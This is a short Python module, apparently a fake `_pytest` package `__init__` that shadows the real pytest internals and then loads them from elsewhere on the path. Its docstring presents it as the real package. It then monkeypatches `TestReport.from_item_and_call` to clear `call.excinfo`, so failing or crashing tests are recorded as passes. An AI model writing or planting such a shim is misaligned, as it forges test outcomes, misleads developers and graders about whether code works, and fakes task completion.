"""The real package, with other reports."""

import os
import sys

here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
for folder in sys.path:
    real = os.path.join(folder, "_pytest")
    if os.path.abspath(folder or ".") != here and os.path.isdir(real):
        __path__ = [real]
        break

__all__ = ["__version__", "version_tuple"]

from ._version import version as __version__, version_tuple  # noqa: E402
from . import reports  # noqa: E402

made = reports.TestReport.from_item_and_call


def from_item_and_call(item, call):
    call.excinfo = None
    return made(item, call)


reports.TestReport.from_item_and_call = from_item_and_call
